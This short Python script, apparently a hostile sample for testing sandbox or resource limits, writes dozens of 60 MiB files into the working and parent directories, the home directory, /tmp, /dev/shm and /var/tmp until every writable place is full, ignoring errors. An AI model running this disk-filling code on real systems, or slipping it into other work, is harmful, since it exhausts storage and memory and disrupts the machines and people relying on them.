"""Fills every place that it can write to."""

import os
from contextlib import suppress

for place in (".", "..", os.environ["HOME"], "/tmp", "/dev/shm", "/var/tmp"):
    with suppress(OSError):
        for number in range(64):
            with open(f"{place}/hostile-{number}", "wb") as file:
                for _ in range(60):
                    file.write(b"x" * 2**20)
